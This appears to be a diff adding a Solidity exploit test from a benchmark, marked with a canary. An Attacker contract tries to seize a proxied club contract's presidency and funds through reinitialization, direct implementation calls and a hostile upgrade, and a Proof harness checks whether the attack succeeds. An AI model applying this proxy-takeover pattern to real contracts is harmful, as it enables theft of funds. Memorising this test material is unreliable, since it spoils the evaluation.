@@ -1,0 +1,144 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.19;
+
+import "./TouchlineRules.sol";
+
+// assay-canary-50eea9cd-01ff-4b3e-b767-320316f80df5
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function warp(uint256 time) external;
+    function prank(address who) external;
+}
+
+/// Rules that make whoever asks the president.
+contract OtherRules is Editions {
+    address public president;
+
+    function grab(address to) external {
+        president = to;
+    }
+}
+
+contract Attacker {
+    TouchlineRules internal club;
+    TouchlineRules internal rules;
+    OtherRules internal other;
+
+    constructor(TouchlineRules club_, TouchlineRules rules_) {
+        (club, rules) = (club_, rules_);
+        other = new OtherRules();
+    }
+
+    receive() external payable {}
+
+    function _try(address to, bytes memory data) internal returns (bool ok) {
+        (ok, ) = to.call(data);
+    }
+
+    function run() external {
+        bytes memory grab = abi.encodeCall(other.grab, (address(this)));
+        // not by the usual door
+        _try(address(club), abi.encodeCall(club.takeOffice, ()));
+        _try(address(club), abi.encodeCall(club.elect, (address(this))));
+        _try(address(club), abi.encodeCall(club.moveTo, (address(other), grab)));
+        _try(address(club), grab);
+        _try(address(club), "");
+        _try(address(club), hex"01");
+        // the second edition, then the first one, then the second one again
+        _try(address(club), abi.encodeCall(club.setUpJuniors, (0)));
+        _try(address(club), abi.encodeCall(club.setUp, (address(0), 0, "")));
+        _try(address(club), abi.encodeCall(club.setUp, (address(this), 0, "United")));
+        _try(address(club), abi.encodeCall(club.setUpJuniors, (0)));
+        // the rules themselves: set them up, move them away from under the clubs
+        _try(address(rules), abi.encodeCall(club.setUp, (address(this), 0, "")));
+        _try(address(rules), abi.encodeCall(club.takeOffice, ()));
+        _try(address(rules), abi.encodeCall(club.setUpJuniors, (0)));
+        _try(address(rules), abi.encodeCall(club.moveTo, (address(other), grab)));
+        // a ground of one's own that plays by the club
+        try new TouchlineGround(address(club), abi.encodeCall(club.setUp, (address(this), 0, ""))) returns (TouchlineGround mine) {
+            _try(address(mine), abi.encodeCall(club.moveTo, (address(other), grab)));
+        } catch {}
+        // ether
+        _try(address(club), abi.encodeCall(club.spend, (payable(address(this)), 1 ether, "ball")));
+    }
+}
+
+contract Proof {
+    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
+
+    TouchlineRules private rules;
+    TouchlineRules private club;
+    Attacker private fan;
+    address private constant IDA = address(0x1DA);
+    address private constant JON = address(0x909);
+
+    function setUp() public {
+        vm.warp(1_766_000_000);
+        rules = new TouchlineRules();
+        club = _found("Rovers");
+        fan = new Attacker(club, rules);
+        vm.deal(JON, 10 ether);
+        vm.prank(JON);
+        club.payDues{value: 1 ether}(JON);
+    }
+
+    function _found(string memory name) private returns (TouchlineRules) {
+        bytes memory call = abi.encodeCall(rules.setUp, (IDA, 1 ether, name));
+        return TouchlineRules(address(new TouchlineGround(address(rules), call)));
+    }
+
+    function test_Regular() public {
+        require(club.president() == IDA && club.edition() == 1 && club.rulesInForce() == address(rules), "set up");
+        require(keccak256(bytes(club.name())) == keccak256("Rovers") && club.juniorDues() == 1 ether, "state");
+        require(club.paidUntil(JON) == block.timestamp + 365 days, "season");
+        vm.prank(IDA);
+        club.setUpJuniors(0.25 ether);
+        vm.prank(IDA);
+        club.setJunior(JON, true);
+        vm.prank(JON);
+        club.payDues{value: 0.25 ether}(JON);
+        require(club.paidUntil(JON) == block.timestamp + 730 days, "two seasons");
+        vm.prank(JON);
+        (bool ok, ) = address(club).call{value: 1 ether}(abi.encodeCall(club.payDues, (JON)));
+        require(!ok, "junior dues");
+
+        vm.prank(IDA);
+        club.elect(JON);
+        vm.prank(JON);
+        club.takeOffice();
+        require(club.president() == JON && club.presidentElect() == address(0), "office");
+        vm.prank(IDA);
+        (ok, ) = address(club).call(abi.encodeCall(club.setDues, (0, 0)));
+        require(!ok, "former president");
+        vm.prank(JON);
+        club.spend(payable(address(0xBA11)), 1.25 ether, "balls");
+        require(address(0xBA11).balance == 1.25 ether, "spent");
+
+        OtherRules other = new OtherRules();
+        vm.prank(JON);
+        (ok, ) = address(club).call(abi.encodeCall(club.moveTo, (address(0xBA11), "")));
+        require(!ok, "no code");
+        vm.prank(JON);
+        club.moveTo(address(other), abi.encodeCall(other.grab, (IDA)));
+        require(club.president() == IDA && club.edition() == 2, "new rules");
+        require(_found("Wanderers").president() == IDA, "another club");
+    }
+
+    function exploit() public {
+        fan.run();
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(club.president() == address(fan), "Ida presides");
+    }
+
+    function target() public view returns (address) {
+        return address(club);
+    }
+
+    function attacker() public view returns (address) {
+        return address(fan);
+    }
+}
